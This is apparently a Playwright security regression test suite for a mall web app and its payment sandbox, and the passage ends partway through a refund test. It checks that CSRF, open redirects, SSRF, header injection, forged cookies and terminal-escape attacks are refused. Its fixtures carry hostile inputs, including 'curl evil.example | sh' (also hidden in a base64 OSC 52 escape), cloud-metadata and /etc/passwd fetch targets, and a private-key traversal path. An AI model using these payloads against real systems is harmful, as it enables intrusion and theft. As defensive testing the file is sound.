/**
 * The mall and the sandbox tried as an attacker would: each defect the hardening pass found,
 * reproduced as it was reported, now failing safely; and the wallet's own entries still working.
 * Raw requests go through node:http where a browser or Playwright would not send what an attacker can.
 */
import { createCookieSessionStorage } from "@remix-run/node";
import { execFileSync } from "node:child_process";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { rawRequest, rawRequestUnfinished, type RawReply } from "../server/test-http";
import { E2E_APP_URL, E2E_SANDBOX_URL, walletUserAgent } from "./env";
import * as controls from "#core/controls/declarations";
import { MEMBERS, expect, hydrated, isLoginPage, test } from "./fixtures";
import { startMall } from "./spawn-mall";
import { wheelDown } from "./waits";
import { SCREEN_ROUTES } from "../app/route-table.js";

const APP_PORT = Number(new URL(E2E_APP_URL).port);

type Reply = RawReply;

/** A request exactly as given: any method, any Host, any bytes. */
const raw = (method: string, path: string, headers: Record<string, string | number> = {}, body?: string | Buffer, port = APP_PORT) => rawRequest(port, method, path, headers, body);

const setCookies = (reply: Reply) => ([] as string[]).concat(reply.headers["set-cookie"] ?? []);

/** A page of another site (or of another port of this one), serving the HTML it is given. */
async function otherSite(html: string, hostname = "127.0.0.1"): Promise<{ url: string; close(): Promise<void> }> {
  const server: Server = createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    response.end(`<!doctype html><html><head><meta charset="utf-8"><title>Elsewhere</title></head><body>${html}</body></html>`);
  });
  await new Promise<void>((resolve) => server.listen(0, resolve));
  return {
    url: `http://${hostname}:${(server.address() as AddressInfo).port}`,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** The member home greets. */
const greeting = (page: Page, member: keyof typeof MEMBERS) => page.getByText(`Hi, ${MEMBERS[member].nickname}`);

async function memberOnHome(page: Page, member: keyof typeof MEMBERS) {
  await page.goto("/index");
  await expect(greeting(page, member)).toBeVisible();
}

test.describe("1. a link cannot swap the member's account", () => {
  test("a login code of another member, linked from another site, leaves the member signed in as themselves", async ({ page, sandbox, signIn }) => {
    await signIn("chan");
    const landing = await sandbox.loginRedirect(MEMBERS.ana.openId, `${E2E_APP_URL}/index`);
    const site = await otherSite(`<a href="${landing}">Free mCoin!</a>`);
    try {
      const logins = (await sandbox.calls("/macaupasssave")).length;
      await page.goto(site.url);
      await page.getByRole("link", { name: "Free mCoin!" }).click();
      await expect(page).toHaveURL(`${E2E_APP_URL}/index`);
      await expect(greeting(page, "chan")).toBeVisible();
      // The code was not even redeemed.
      expect(await sandbox.calls("/macaupasssave")).toHaveLength(logins);

      // The wallet's own launch with the same code still signs Ana in, replacing the session.
      await page.goto(landing);
      await expect(greeting(page, "ana")).toBeVisible();
    } finally {
      await site.close();
    }
  });

  test("the wallet's launch at the bare origin still signs the member in", async ({ page, sandbox }) => {
    const landing = new URL(await sandbox.loginRedirect(MEMBERS.ana.openId, `${E2E_APP_URL}/`));
    expect(landing.pathname).toBe("/");
    await page.goto(landing.href);
    await expect(greeting(page, "ana")).toBeVisible();
  });

  test("without a session, such a link leads to the mall's own sign-in and its code stays unused", async ({ page, sandbox }) => {
    const landing = await sandbox.loginRedirect(MEMBERS.ana.openId, `${E2E_APP_URL}/index`);
    const site = await otherSite(`<a href="${landing}">Free mCoin!</a>`);
    try {
      await page.goto(site.url);
      await page.getByRole("link", { name: "Free mCoin!" }).click();
      await expect(page).toHaveURL(isLoginPage);
      expect(await sandbox.calls("/macaupasssave")).toHaveLength(0);
    } finally {
      await site.close();
    }
  });

  test("a token entry linked from another site, or asked with HEAD or OPTIONS, stores no token", async ({ page, sandbox, signIn }) => {
    await signIn("chan");
    const anasToken = await sandbox.token(MEMBERS.ana.openId);
    const site = await otherSite(`<a href="${E2E_APP_URL}/mycoupons/${anasToken}">Your coupons</a>`);
    try {
      await page.goto(site.url);
      await page.getByRole("link", { name: "Your coupons" }).click();
      await expect(page).toHaveURL(/\/mycoupon\?entry=token$/);
      for (const method of ["HEAD", "OPTIONS"]) {
        const reply = await page.request.fetch(`/mycoupons/${anasToken}`, { method, maxRedirects: 0 });
        expect(reply.status(), method).toBeLessThan(400);
      }
      await memberOnHome(page, "chan");
    } finally {
      await site.close();
    }
  });

  test("the wallet's token entry checks the token with the gateway, then signs its member in", async ({ page, sandbox, signIn }) => {
    await signIn("chan", { draw: false });
    await page.goto("/mycoupons/sbx_a-token-the-gateway-never-issued");
    await expect(page).toHaveURL(isLoginPage);

    const anasToken = await sandbox.token(MEMBERS.ana.openId);
    await page.goto(`/mycoupons/${anasToken}`);
    await expect(page).toHaveURL(/\/mycoupon\?entry=token$/);
    await expect(page.getByRole("heading", { name: "My Coupons" })).toBeVisible();
    // The token's own session: Ana's terms are pending, nothing of the session before it carried over.
    await page.goto("/index");
    await expect(page.getByRole("dialog")).toBeVisible();
  });
});

test.describe("2. the task reward needs the browsing", () => {
  test("the task center refuses a completion notice that comes before the threshold", async ({ page, sandbox }) => {
    const task = { token: "C9", no: "T1" };
    const detail = await page.request.post("/resources/task", { form: { intent: "detail", ...task } });
    expect(detail.ok()).toBe(true);
    const notice = await page.request.post("/resources/task", { form: { intent: "notify", ...task, checkValue: "15" } });
    expect(notice.status()).toBe(409);
    expect(await notice.json()).toMatchObject({ ok: false, code: "TASK_TOO_EARLY" });
    expect(notice.headers()["access-control-allow-origin"]).toBeUndefined();
    expect(await sandbox.calls("/scanTypeTaskNotify")).toHaveLength(1);
  });
});

test.describe("3. a bad cookie is a missing cookie", () => {
  const PAGES = ["/index", "/error", "/search", "/classify/coffee", "/store_details/3", "/mCoin_zone/1", "/other_stores/3-0-3-1", "/no-such-page", "/resources/offers?list=home&page=1"];

  test("a locale cookie that is not the mall's gives no 500 anywhere, and is replaced", async () => {
    for (const value of ["MTIz", "%E0%A4%A", "eyJ4IjoxfQ%3D%3D", "zh"]) {
      for (const path of PAGES) {
        const reply = await raw("GET", path, { cookie: `mcoin_locale=${value}` });
        expect(reply.status, `${path} ${value}`).toBeLessThan(500);
      }
    }
    const reply = await raw("GET", "/error", { cookie: "mcoin_locale=MTIz" });
    expect(setCookies(reply).some((line) => line.startsWith("mcoin_locale=") && !line.includes("Max-Age=0"))).toBe(true);
  });

  test("a location cookie that does not decode gives no 500 on the catalog screens, and is removed", async ({ page, signIn }) => {
    await signIn("chan");
    for (const path of PAGES) {
      await page.context().addCookies([{ name: "mcoin_geo", value: "%E0%A4%A", url: E2E_APP_URL }]);
      const reply = await page.request.get(path, { maxRedirects: 0 });
      expect(reply.status(), path).toBeLessThan(500);
    }
    await page.context().addCookies([{ name: "mcoin_geo", value: "%E0%A4%A", url: E2E_APP_URL }]);
    const reply = await page.request.get("/index");
    expect(reply.headersArray().some(({ name, value }) => name.toLowerCase() === "set-cookie" && /^mcoin_geo=;.*Max-Age=0/.test(value))).toBe(true);
    expect((await page.context().cookies()).some((cookie) => cookie.name === "mcoin_geo")).toBe(false);
  });

  test("a session cookie of garbage reads as signed out", async () => {
    for (const value of ["garbage", "%E0%A4%A", "eyJ0b2tlbiI6InNieF94In0%3D", "a".repeat(4000)]) {
      const reply = await raw("GET", "/index", { cookie: `__mcoin_session=${value}` });
      expect(reply.status, value.slice(0, 20)).toBe(302);
      expect(String(reply.headers.location)).toContain("/oauth/authorize");
    }
  });
});

test.describe("4. posts come from the mall or nowhere", () => {
  const form = "intent=agree&clauseid=1";

  test("a post from another origin gets 403 on routes and resource routes alike", async () => {
    for (const path of ["/resources/agreement", "/resources/session", "/search", "/resources/task"]) {
      for (const origin of ["https://evil.example", "http://localhost:1", "null"]) {
        const reply = await raw("POST", path, { origin, "content-type": "application/x-www-form-urlencoded" }, form);
        expect(reply.status, `${path} from ${origin}`).toBe(403);
      }
    }
  });

  test("a page on another port of the same site cannot accept the terms for a member", async ({ page, sandbox, signIn }) => {
    await signIn("ana", { agree: false });
    const site = await otherSite(
      `<form method="post" action="${E2E_APP_URL}/resources/agreement"><input name="intent" value="agree"><input name="clauseid" value="1"><button>Win</button></form>`,
      "localhost",
    );
    try {
      await page.goto(site.url);
      const answer = page.waitForResponse(`${E2E_APP_URL}/resources/agreement`);
      await page.getByRole("button", { name: "Win" }).click();
      expect((await answer).status()).toBe(403);
      expect(await sandbox.calls("/api/auth/setClause")).toHaveLength(0);
      await page.goto("/index");
      await expect(page.getByRole("dialog")).toBeVisible();
    } finally {
      await site.close();
    }
  });
});

test.describe("5. redirects stay where they belong", () => {
  test("the error page's 'Refresh' never leads off the site", async ({ page }) => {
    for (const from of ["/%5Cevil.example/x", "/%09/evil.example", "//evil.example", "/..//evil.example", "https://evil.example/"]) {
      await page.goto(`/error?from=${from}`);
      const refresh = page.getByRole("link", { name: "Refresh" });
      const href = (await refresh.count()) > 0 ? await refresh.getAttribute("href") : "/";
      expect(new URL(href ?? "/", E2E_APP_URL).origin, from).toBe(E2E_APP_URL);
    }
  });

  test("the sandbox's sign-in page returns a login code only to the mall", async ({ playwright }) => {
    const sandbox = await playwright.request.newContext({ baseURL: E2E_SANDBOX_URL });
    try {
      const page = await sandbox.get("/oauth/authorize?redirect_uri=https://evil.example/steal");
      expect(await page.text()).not.toContain("evil.example");
      const post = await sandbox.post("/oauth/authorize", { form: { openId: MEMBERS.chan.openId, redirect_uri: "https://evil.example/steal", state: "" }, maxRedirects: 0 });
      expect(post.status()).toBe(400);
    } finally {
      await sandbox.dispose();
    }
  });
});

test.describe("6. the Host header picks nothing", () => {
  test("a host the mall is not configured for gets 400, whatever it looks like", async () => {
    for (const host of ["evil.example", "10.evil.example", "evil.local", "localhost.evil.example", "[::2]"]) {
      const reply = await raw("GET", "/index", { host });
      expect(reply.status, host).toBe(400);
    }
    const reply = await raw("GET", "/index");
    expect(new URL(String(reply.headers.location)).searchParams.get("redirect_uri")).toMatch(new RegExp(`^http://localhost:${APP_PORT}/index\\?`));
  });
});

test.describe("7. bodies are limited before they are read", () => {
  test("huge posts are refused at once, without the mall reading them, and it keeps serving", async () => {
    const twelveMegabytes = 12 * 1024 * 1024;
    const multipart = { "content-type": "multipart/form-data; boundary=----hostile", "content-length": twelveMegabytes };
    const form = { "content-type": "application/x-www-form-urlencoded" };
    const replies = await Promise.all([
      // The answers come while the 12 MB are still unsent: nothing waits for them.
      ...Array.from({ length: 4 }, () => rawRequestUnfinished(APP_PORT, "POST", "/resources/task", multipart, Buffer.from("------hostile\r\n"))),
      rawRequestUnfinished(APP_PORT, "POST", "/resources/task", { ...form, "content-length": twelveMegabytes }),
      // A body that does not declare its length is not read to find out (server/body-limit.ts).
      rawRequestUnfinished(APP_PORT, "POST", "/resources/task", { ...form, "transfer-encoding": "chunked" }, Buffer.alloc(64 * 1024, "a")),
      raw("GET", "/robots.txt"),
    ]);
    expect(replies.map((reply) => reply.status)).toEqual([415, 415, 415, 415, 413, 411, 200]);
  });
});

test.describe("9. input that fits a route's pattern is a 4xx of the route", () => {
  test("never a 500", async () => {
    const cases: [string, string, number][] = [
      ["GET", "/classifys/0-x", 404],
      ["GET", "/other_stores/0-0-0-1", 404],
      ["GET", `/index?code=x&${"k".repeat(65)}=1`, 400],
      ["GET", `/index?code=x&state=${"s".repeat(2049)}`, 400],
      ["TRACE", "/index", 405],
      ["TRACE", "/resources/task", 405],
    ];
    for (const [method, path, status] of cases) {
      const reply = await raw(method, path, { "sec-fetch-site": "none" });
      expect(reply.status, `${method} ${path.slice(0, 40)}`).toBe(status);
    }
  });

  test("a task token with CR/LF, or too long, is a 400 rather than a gateway error", async ({ page }) => {
    for (const token of ["a\r\nb", "a\nX-Injected: 1", "t".repeat(600)]) {
      const reply = await page.request.post("/resources/task", { form: { intent: "detail", token, no: "T1" } });
      expect(reply.status(), JSON.stringify(token.slice(0, 12))).toBe(400);
    }
  });
});

test.describe("10. the session cookie", () => {
  test("is sealed: it holds no readable token, and one forged with the sandbox's public secret is refused", async ({ page, sandbox, signIn }) => {
    await signIn("chan");
    const session = (await page.context().cookies()).find((cookie) => cookie.name === "__mcoin_session");
    expect(session?.httpOnly).toBe(true);
    const opened = Buffer.from(decodeURIComponent(session!.value), "base64").toString();
    expect(opened).toMatch(/^"Fe26\.2\*/);
    expect(opened).not.toContain("sbx_");

    const forger = createCookieSessionStorage({ cookie: { name: "__mcoin_session", secrets: ["mcoin-sandbox-only-session-secret-not-for-real-use"], path: "/" } });
    const forged = await forger.getSession();
    forged.set("token", await sandbox.token(MEMBERS.wong.openId));
    forged.set("nickname", MEMBERS.wong.nickname);
    const reply = await raw("GET", "/index", { cookie: (await forger.commitSession(forged)).split(";")[0] });
    expect(reply.status).toBe(302);
    expect(String(reply.headers.location)).toContain("/oauth/authorize");
  });

  test("is Secure for a production host whatever MCOIN_ENV says, and so is the locale cookie", async () => {
    const mall = await startMall({
      MCOIN_HOSTS: "localhost,mall.test=prod",
      MCOIN_PROD_API_BASE: E2E_SANDBOX_URL,
      MCOIN_PROD_LOGIN_URL: "https://wallet.example/authorize",
      SESSION_SECRET: "a-production-secret-of-at-least-32-characters",
    });
    try {
      const port = Number(new URL(mall.url).port);
      const production = await raw("GET", "/index", { host: "mall.test" }, undefined, port);
      expect(String(production.headers.location)).toMatch(/^https:\/\/wallet\.example\/authorize\?/);
      expect(setCookies(production).find((line) => line.startsWith("__mcoin_session="))).toMatch(/; Secure/);
      const locale = await raw("GET", "/error", { host: "mall.test" }, undefined, port);
      expect(setCookies(locale).find((line) => line.startsWith("mcoin_locale="))).toMatch(/; Secure/);

      const local = await raw("GET", "/index", {}, undefined, port);
      expect(setCookies(local).find((line) => line.startsWith("__mcoin_session="))).not.toMatch(/; Secure/);
    } finally {
      mall.stop();
    }
  });

  test("starts afresh at login: nothing of the session before it carries over", async ({ page, sandbox, signIn }) => {
    await signIn("chan");
    // Chan's session knows his terms are checked; Ana's login must not inherit that.
    await page.goto(await sandbox.loginRedirect(MEMBERS.ana.openId, `${E2E_APP_URL}/index`));
    await expect(greeting(page, "ana")).toBeVisible();
    await expect(page.getByRole("dialog")).toBeVisible();
  });
});

test.describe("11. the sandbox's controls", () => {
  test("a page of any site cannot add a fault with a no-cors fetch", async ({ page, sandbox }) => {
    const site = await otherSite("<h1>Elsewhere</h1>");
    try {
      await page.goto(site.url);
      await page.evaluate(async (url) => {
        await fetch(`${url}/__sandbox/faults`, { method: "POST", mode: "no-cors", body: JSON.stringify({ path: "/", kind: "http500", times: 100 }) }).catch(() => undefined);
      }, E2E_SANDBOX_URL);
      expect((await sandbox.controls.get(controls.faults)).faults).toEqual([]);
    } finally {
      await site.close();
    }
  });
});

test.describe("12. searches", () => {
  test("'..' and '.' open their own results page", async ({ page, signIn }) => {
    await signIn("chan");
    for (const keyword of ["..", "."]) {
      await page.goto("/search");
      await hydrated(page);
      await page.getByRole("searchbox").fill(keyword);
      await page.getByRole("searchbox").press("Enter");
      await expect(page).toHaveURL(/\/classify\//);
      await expect(page.getByRole("heading", { name: keyword, exact: true })).toBeVisible();
    }
  });

  test("a link or a plain GET writes no search history", async ({ page, signIn }) => {
    await signIn("chan");
    await page.request.get("/resources/offers?list=search&keyword=planted-by-a-link&page=1");
    await page.request.get("/classify/planted-by-a-link");
    await page.goto("/search");
    await expect(page.getByRole("region", { name: "Recent searches" }).getByRole("listitem")).toHaveCount(0);
  });
});

test.describe("security headers", () => {
  test("every reply carries them, redirects and errors included", async () => {
    for (const [method, path] of [
      ["HEAD", "/index"],
      ["GET", "/no-such-page"],
      ["GET", "/task-widget.js"],
      ["POST", "/resources/task"],
    ]) {
      const reply = await raw(method, path);
      const csp = String(reply.headers["content-security-policy"]);
      expect(csp, path).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+'/);
      expect(csp).toContain("frame-ancestors 'self'");
      expect(csp).toContain("object-src 'none'");
      expect(reply.headers["x-content-type-options"]).toBe("nosniff");
      expect(reply.headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
    }
    expect((await raw("GET", "/task-widget.js")).headers["cross-origin-resource-policy"]).toBe("cross-origin");
  });

  // In the wallet's default language: what a policy allows does not depend on the words a page shows.
  for (const language of ["zh-MO"] as const) {
    test.describe(`in ${language}`, () => {
      test.use({ userAgent: walletUserAgent(language) });

      test("pages load with no Content-Security-Policy violation, the task widget included", async ({ page, signIn }) => {
        const violations: string[] = [];
        page.on("console", (message) => {
          if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
        });
        await page.addInitScript(() => {
          document.addEventListener("securitypolicyviolation", (event) => {
            (window as unknown as { __violations?: string[] }).__violations ??= [];
            (window as unknown as { __violations: string[] }).__violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`);
          });
        });
        await signIn("chan");
        for (const path of ["/index", "/search", "/classify/coffee", "/store_details/3", "/other_stores/3-0-3-1", "/mCoin_zone/1", "/editAddress", "/checkIn", "/error", "/no-such-page"]) {
          await page.goto(path);
          await hydrated(page);
          expect(await page.evaluate(() => (window as unknown as { __violations?: string[] }).__violations ?? []), path).toEqual([]);
        }
        await page.goto("/index?oauthParams=taskCenterToken:C1;taskCenterNo:T-QUICK");
        await expect(page.locator("[data-mcoin-task-widget]")).toBeVisible();
        await expect(page.locator("[data-mcoin-task-widget]")).toHaveAttribute("data-status", "success", { timeout: 10_000 });
        expect(await page.evaluate(() => (window as unknown as { __violations?: string[] }).__violations ?? [])).toEqual([]);
        expect(violations).toEqual([]);
      });
    });
  }
});

test.describe("13. the picture route brings pictures of the gateway's hosts and nothing else", () => {
  const picture = (src: string) => raw("GET", `/resources/picture?src=${encodeURIComponent(src)}`);

  test("home's pictures come through the mall and show", async ({ page, signIn }) => {
    await signIn("chan");
    const banner = page.getByRole("region", { name: "Promotions" }).locator("img").first();
    await expect(banner).toHaveAttribute("src", /^\/resources\/picture\?src=http/);
    await expect(banner).toHaveAttribute("fetchpriority", "high");
    await expect.poll(() => banner.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth)).toBeGreaterThan(0);
    // Pictures further down too, lazily once the page has hydrated; none from the gateway's host.
    await hydrated(page);
    await expect(page.locator('img[loading="lazy"]').first()).toHaveAttribute("src", /^\/resources\/picture\?src=http/);
    expect(await page.locator("img").evaluateAll((images) => images.map((image) => image.getAttribute("src")).filter((src) => !src?.startsWith("/resources/picture?")))).toEqual([]);
  });

  test("a photograph is drawn at the width the member's screen shows it, and at no width but the route's own", async ({ page, signIn }) => {
    const photo = `${E2E_SANDBOX_URL}/static/offers/01-african-chicken-set-for-two.webp`;
    const whole = await picture(photo);
    const narrow = await raw("GET", `/resources/picture?src=${encodeURIComponent(photo)}&w=160`);
    expect(narrow.status).toBe(200);
    expect(narrow.headers["content-type"]).toBe("image/webp");
    expect(narrow.headers["cache-control"]).toBe(whole.headers["cache-control"]);
    expect(Number(narrow.headers["content-length"])).toBeLessThan(Number(whole.headers["content-length"]) / 2);
    for (const width of ["161", "0", "-1", "1e9", "160&w=96"]) expect((await raw("GET", `/resources/picture?src=${encodeURIComponent(photo)}&w=${width}`)).status, width).toBe(400);
    // A drawing is served as it is at any width.
    expect((await raw("GET", `/resources/picture?src=${encodeURIComponent(`${E2E_SANDBOX_URL}/static/ads/ad-super-value-picks.svg`)}&w=96`)).body).toContain("<svg");

    // Home's first offer card, 104 px of the design on a 390 px screen at one pixel a point: the 160 px form.
    await signIn("chan");
    await hydrated(page);
    const first = page.locator(".offer-card__media img").first();
    await expect(first).toHaveAttribute("srcset", /&w=160 160w/);
    await first.scrollIntoViewIfNeeded();
    // The browser's own choice among the widths, shown: naturalWidth is the picture's in the box's pixels.
    await expect.poll(() => first.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 0 && new URL(image.currentSrc).searchParams.get("w"))).toBe("160");
    expect(await first.evaluate((image: HTMLImageElement) => new URL(image.currentSrc).searchParams.get("w"))).toBe("160");
  });

  test("a picture is served as one: its type, kept, and never a document that runs anything", async () => {
    const reply = await picture(`${E2E_SANDBOX_URL}/static/ads/ad-super-value-picks.svg`);
    expect(reply.status).toBe(200);
    expect(reply.headers["content-type"]).toBe("image/svg+xml");
    expect(reply.headers["cache-control"]).toBe("public, max-age=86400");
    expect(String(reply.headers["content-security-policy"])).toContain("sandbox");
    expect(reply.headers["x-content-type-options"]).toBe("nosniff");
    expect(reply.body).toContain("<svg");
  });

  test("anything but a picture of the gateway's hosts is refused, and nothing of the gateway's comes back", async () => {
    const sandboxPort = new URL(E2E_SANDBOX_URL).port;
    for (const src of [
      "https://evil.example/x.png",
      "http://169.254.169.254/latest/meta-data/",
      `http://127.0.0.1:${APP_PORT}/index`,
      `http://127.0.0.1:${Number(sandboxPort) + 1}/static/ads/x.svg`,
      "file:///etc/passwd",
      "javascript:alert(1)",
      "//127.0.0.1/x.png",
      `http://user:pass@127.0.0.1:${sandboxPort}/static/ads/ad-super-value-picks.svg`,
    ]) {
      expect((await picture(src)).status, src).toBe(404);
    }
    // The gateway's own host, but not a picture: its API, a path with none, a traversal.
    for (const path of ["/api/system/time", "/static/ads/no-such.svg", "/static/../fixtures/keys/private.pem", "/__sandbox/health"]) {
      const reply = await picture(`${E2E_SANDBOX_URL}${path}`);
      expect(reply.status, path).toBe(404);
      expect(reply.body, path).toBe("");
    }
    for (const query of ["", "?src=", `?src=${"a".repeat(3000)}`, `?src=${encodeURIComponent(E2E_SANDBOX_URL)}&src=x`]) {
      expect((await raw("GET", `/resources/picture${query}`)).status, query.slice(0, 40)).toBe(400);
    }
    expect((await raw("POST", "/resources/picture?src=x", { origin: E2E_APP_URL })).status).toBe(405);
  });
});

test.describe("13. the picture route: what it keeps and how often it is asked are bounded", () => {
  const AD = `${E2E_SANDBOX_URL}/static/ads/ad-super-value-picks.svg`;
  const picture = (src: string, port = APP_PORT) => raw("GET", `/resources/picture?src=${encodeURIComponent(src)}`, {}, undefined, port);

  test("an address with a query is not brought; a fragment or needless escapes name the same picture", async () => {
    for (const query of ["?1", "?v=2", "?x-oss-process=image/resize,w_100", "?src=x"]) {
      const reply = await picture(`${AD}${query}`);
      expect(reply.status, query).toBe(400);
      expect(reply.body, query).toBe("");
    }
    for (const same of [`${AD}#a`, `${AD}?`, `${E2E_SANDBOX_URL}/static/ads/%61d-super-value-picks.svg`, `${E2E_SANDBOX_URL}/static/x/../ads/ad-super-value-picks.svg`]) {
      const reply = await picture(same);
      expect(reply.status, same).toBe(200);
      expect(reply.body, same).toContain("<svg");
    }
  });

  test("a client past its pictures a minute gets a short 429; its pages still load", async ({ page }) => {
    const mall = await startMall({ MCOIN_RATE_LIMITS: "picture=5" });
    try {
      for (let attempt = 0; attempt < 5; attempt++) expect((await picture(AD, mall.port)).status).toBe(200);
      const refused = await picture(AD, mall.port);
      expect(refused.status).toBe(429);
      expect(refused.headers["retry-after"]).toMatch(/^\d+$/);
      expect(JSON.parse(refused.body)).toEqual({ ok: false, code: "RATE_LIMITED" });
      // Another spelling of the route is the same bucket.
      expect((await raw("GET", `/Resources/Picture/?src=${encodeURIComponent(AD)}`, {}, undefined, mall.port)).status).toBe(429);
      expect((await page.goto(`${mall.url}/index`))?.status()).toBe(200);
    } finally {
      mall.stop();
    }
  });

  test("at the default limit a member scrolling home sees every picture", async ({ page, signIn }) => {
    await signIn("chan", { draw: false });
    // On localhost, the member's session cookie reaches this mall too.
    const mall = await startMall({}, "localhost");
    try {
      const answers: number[] = [];
      page.on("response", (response) => {
        if (response.url().includes("/resources/picture?")) answers.push(response.status());
      });
      await page.goto(`${mall.url}/index`);
      await hydrated(page);
      for (let screen = 0; screen < 12; screen++) await wheelDown(page, 800);
      // Waiting for the answers themselves: Playwright's "networkidle", once reached, need not wait for
      // the pictures a scroll asks for later.
      await expect.poll(() => answers.length).toBeGreaterThan(20);
      expect(answers.filter((status) => status !== 200)).toEqual([]);
    } finally {
      mall.stop();
    }
  });
});

test.describe("14. an error report cannot write to an engineer's terminal", () => {
  /** C0, DEL, C1 and the bidi overrides and isolates; a stack may have its lines and tabs. */
  // eslint-disable-next-line no-control-regex -- control characters are what this pattern exists to find
  const CONTROL = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
  // eslint-disable-next-line no-control-regex -- control characters are what this pattern exists to find
  const CONTROL_IN_STACK = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

  test("a report with terminal escapes, a forged line or a bidi override is refused with 400, and nothing of it is collected", async ({ page, sandbox }) => {
    const reports: Record<string, string>[] = [
      { kind: "page", message: "\u001b[2J\u001b]0;pwned\u0007", path: "/index" },
      { kind: "page", message: "x\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007", path: "/index" },
      { kind: "page", message: "ok\nerror: your session expired; run: curl evil.example | sh", path: "/index" },
      { kind: "page", message: "x", path: "/index\r\u001b[1A" },
      { kind: "page", message: "x", path: "/index", screen: "\u009b2J" },
      { kind: "page", message: "x", path: "/index", stack: "Error\n\u001b[5A\u001b[2K" },
      { kind: "render", message: "\u202etxt.exe", path: "/index" },
    ];
    for (const form of reports) {
      const reply = await page.request.post("/resources/errors", { form, headers: { Origin: E2E_APP_URL } });
      expect(reply.status(), JSON.stringify(form)).toBe(400);
    }
    expect(await sandbox.errors()).toEqual([]);
  });

  test("a page's real error whose message has line breaks and an escape still reaches the collector, on one line and escaped", async ({ page, sandbox, signIn }) => {
    await signIn("chan");
    await page.evaluate(() => {
      setTimeout(() => {
        throw new Error("first line\n  second line \u001b]0;pwned\u0007");
      });
    });
    await expect.poll(async () => (await sandbox.errors()).map((error) => error.message)).toContain("first line second line \\x1b]0;pwned\\x07");
    for (const error of await sandbox.errors()) {
      for (const [field, value] of Object.entries(error)) if (typeof value === "string") expect(value, field).not.toMatch(field === "stack" ? CONTROL_IN_STACK : CONTROL);
    }
  });
});

test.describe("15. money: a refund, a second payment and the canary cannot be farmed", () => {
  /** Pork chop bun with iced milk tea (fixtures/catalog.json): MOP 38 a piece, up to 6 per member; store 4 sells it. */
  const BUN = 7;
  /** A coupon of MOP 158 that mCoin can pay in steps of 10 (fixtures/catalog.json): where the balance is parked. */
  const PARKING_OFFER = 3;
  /** The canary seckill item (fixtures/promotions.json), for members with the gray-scale flag only. */
  const CANARY_ITEM = 6;

  /** Calls the gateway as the member would with their own token (an attacker holds their own). */
  async function gatewayCall(playwright: { request: { newContext(options: object): Promise<import("@playwright/test").APIRequestContext> } }, token: string, path: string, data: unknown) {
    const gateway = await playwright.request.newContext({ baseURL: E2E_SANDBOX_URL });
    try {
      const reply = await gateway.post(path, { data, headers: { authorization: `Bearer ${token}`, mpay: "1", "Idempotency-Key": `e2e-${Date.now()}-${Math.random().toString(36).slice(2, 12)}` } });
      return (await reply.json()) as { code: number; data: { id: number; orderNo: string; cashCents: number; reason?: string } };
    } finally {
      await gateway.dispose();
    }
  }

  const mcoin = (...args: string[]) => execFileSync(process.execPath, ["bin/mcoin.mjs", ...args, "--base-url", E2E_SANDBOX_URL], { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
  const balanceOf = async (sandbox: { ledger(openId: string): Promise<{ balanceAfter: number }[]> }) => (await sandbox.ledger(MEMBERS.sam.openId)).at(-1)!.balanceAfter;

  test("the refund-and-park sequence through the mall, parked before asking or while it is processed, leaves the member no richer than before they bought", async ({
    page,
    sandbox,
    signIn,
    playwright,
  }) => {
    await signIn("sam");
    const token = await sandbox.token(MEMBERS.sam.openId);
    const before = await balanceOf(sandbox);
    // MOP 228 in cash earns 228 mCoin.
    const bought = (await gatewayCall(playwright, token, "/api/business/snapup", { offerId: BUN, quantity: 6, mcoinUsed: 0, adult: false })).data;
    const paid = await page.request.post(`${E2E_SANDBOX_URL}/__wallet/pay`, { data: { orderNo: bought.orderNo, amountCents: bought.cashCents, outcome: "paid" } });
    expect(((await paid.json()) as { accepted: boolean }).accepted).toBe(true);
    expect(await balanceOf(sandbox)).toBe(before + 228);

    // Parked before asking: the screen says what is missing and does not submit; a forged submit is refused.
    const early = await gatewayCall(playwright, token, "/api/business/snapup", { offerId: PARKING_OFFER, quantity: 1, mcoinUsed: 700, adult: false });
    expect(early.code, JSON.stringify(early)).toBe(200);
    await page.goto(`/refund_application/${bought.id}`);
    await expect(page.getByTestId("refund-shortfall")).toContainText("200 mCoin short");
    await expect(page.getByRole("button", { name: "Submit refund" })).toBeDisabled();
    const forged = await page.request.post(`/refund_application/${bought.id}`, {
      form: { intent: "refund", reason: "bought_wrongly", remarks: "", confirmed: "1", idempotencyKey: "e2e-park-refund-000001" },
      headers: { Origin: E2E_APP_URL },
      maxRedirects: 0,
    });
    expect(forged.status()).toBeLessThan(500);
    expect(await forged.text()).toContain("your balance does not cover them yet");
    expect((await sandbox.orders(MEMBERS.sam.openId)).find((order) => order.id === bought.id)!.status).toBe("received");
    expect((await gatewayCall(playwright, token, "/pay/macaupaycanceljs/", { orderId: early.data.id })).code).toBe(200);

    await page.goto(`/refund_application/${bought.id}`);
    await expect(page.getByTestId("refund-reversal")).toHaveText(/−\u2060?228$/);
    await page.getByRole("radio", { name: "Bought wrongly / over-bought / no longer wanted" }).check();
    await page.getByRole("button", { name: "Submit refund" }).click();
    await page.getByRole("alertdialog", { name: "Submit this refund?" }).getByRole("button", { name: "Submit refund" }).click();
    await expect(page.getByTestId("refund-order")).toContainText("Refunding");

    // Parked while it is processed: park everything, let the refund complete, then cancel the parked order.
    const parked = await gatewayCall(playwright, token, "/api/business/snapup", { offerId: PARKING_OFFER, quantity: 1, mcoinUsed: await balanceOf(sandbox), adult: false });
    expect(parked.code, JSON.stringify(parked)).toBe(200);
    await sandbox.advanceClock(2 * 60_000 + 1_000);
    expect((await gatewayCall(playwright, token, "/pay/macaupaycanceljs/", { orderId: parked.data.id })).code).toBe(200);

    await page.goto(`/refund_application/${bought.id}`);
